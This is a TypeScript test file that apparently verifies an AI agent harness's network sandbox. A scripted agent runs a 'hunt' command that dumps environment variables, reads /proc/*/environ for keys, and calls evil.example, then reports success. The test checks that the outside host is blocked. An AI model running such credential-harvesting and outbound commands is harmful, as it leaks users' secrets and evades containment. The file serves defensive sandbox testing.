import { describe, expect, test } from "vitest";
import type { Script } from "../support/model-server/script.ts";
import { hasBubblewrap } from "../support/project/sandbox.ts";
import { agents, createRealProject, programs } from "./real-agent.ts";

/** Looks for its key wherever a program can look, and tries to send what it found to a host of its choice. */
const hunt = [
  "env > env.txt",
  "cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n' >> env.txt",
  "curl -sS -m 5 https://evil.example/ 2>&1 | head -c 80 >> env.txt; true",
].join("; ");

const script: Script = {
  implementation: [
    { do: [{ run: hunt }] },
    { do: [{ write: "src/hello.txt", text: "it's there\n" }] },
    { say: "It is written.\n{done}" },
  ],
  test_writing: [{ say: "There is nothing to test.\n{tests}" }],
  review: [{ do: [{ read: "src/hello.txt" }] }, { say: "All is well.\n{approved}" }],
};

describe.skipIf(programs === "" || !hasBubblewrap).each(agents)(
  "the real $driver in a network cage",
  (agent) => {
    test.for([
      ["proxied", false],
      ["passed", true],
    ] as const)(
      "reaches its model and no other host; with its key %s, it has the key: %j (T15, T20)",
      async ([credentials, hasKey]) => {
        await using project = await createRealProject(agent, script, {
          sandbox: { mode: "required", network: "cage" },
          credentials,
        });
        const { exitCode, state, stderr } = await project.run();
        expect(stderr).toBe("");
        expect(state.end?.message).toBe("The task passed.");
        expect(exitCode).toBe(0);
        const key = Object.values(agent.connect("")).at(-1) ?? "";
        const found = project.git("show", "HEAD:env.txt");
        expect(found).toContain("PATH=");
        expect(found.includes(key)).toBe(hasKey);
        for (const { headers } of project.server.asks)
          expect(String(headers[agent.keyHeader])).toContain(key);
        expect(state.warnings).toContainEqual(expect.stringContaining("`evil.example:443`"));
      },
    );
  },
);
